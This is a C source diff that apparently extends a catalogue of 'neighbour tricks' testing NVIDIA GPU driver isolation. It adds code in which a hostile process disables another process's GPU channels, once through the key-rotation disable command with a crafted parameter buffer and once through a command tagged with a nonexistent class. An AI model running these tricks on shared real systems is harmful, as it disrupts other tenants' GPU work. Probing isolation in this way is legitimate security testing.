@@ -6,6 +6,8 @@
 
 #define LEGACY 0x8000u
 #define RACE_MS 2000
+#define KEYS_SIZE 520
+#define NO_CLASS 0x1234u
 #define CILP_SET 1
 #define IDLE_LIST (2u << 4)	/* NVOS30_FLAGS_CHANNEL_LIST */
 #define IDLE_US 1000
@@ -19,6 +21,22 @@ static u32 switch_off(struct hostile *h, u32 object, u32 cmd)
 static u32 other_off(struct hostile *h)
 {
 	return switch_off(h, h->program.subdevice, NV2080_CTRL_CMD_FIFO_DISABLE_CHANNELS);
+}
+
+/* A count, clients, channels; nothing else lies in its 520 bytes. */
+static u32 other_off_by_keys(struct hostile *h)
+{
+	u8 *params = fresh_params();
+
+	put_word(params, 0, 1);
+	put_word(params, 4, h->other_client);
+	put_word(params, 4 + 4 * NV2080_CTRL_FIFO_DISABLE_CHANNELS_MAX_ENTRIES, h->other_channel);
+	return control(h, h->program.subdevice, NV2080_CTRL_CMD_FIFO_DISABLE_CHANNELS_FOR_KEY_ROTATION, params, KEYS_SIZE);
+}
+
+static u32 other_off_by_class(struct hostile *h)
+{
+	return switch_off(h, h->raw, (NV2080_CTRL_CMD_FIFO_DISABLE_CHANNELS & 0xffff) | NO_CLASS << 16);
 }
 
 static u32 other_off_by_raw_interface(struct hostile *h)
@@ -138,6 +156,8 @@ static u32 other_channel_numbers(struct hostile *h)
 const struct trick neighbour_tricks[] = {
 	{ "other-off", "neighbour", "FIFO_DISABLE_CHANNELS with the neighbour's channel", other_off },
 	{ "other-off-binapi", "neighbour", "the same through NV2081_BINAPI", other_off_by_raw_interface },
+	{ "other-off-class", "neighbour", "the same as a command of a class that nothing is of", other_off_by_class },
+	{ "other-off-keys", "neighbour", "FIFO_DISABLE_CHANNELS_FOR_KEY_ROTATION with the neighbour's channel", other_off_by_keys },
 	{ "other-off-raw", "neighbour", "the same as a command that goes to the firmware unread", other_off_by_raw_command },
 	{ "other-off-race", "neighbour", "a list of its own that another process rewrites", other_off_by_race },
 	{ "other-slice", "neighbour", "SET_TIMESLICE on the neighbour's channel group", other_slice },
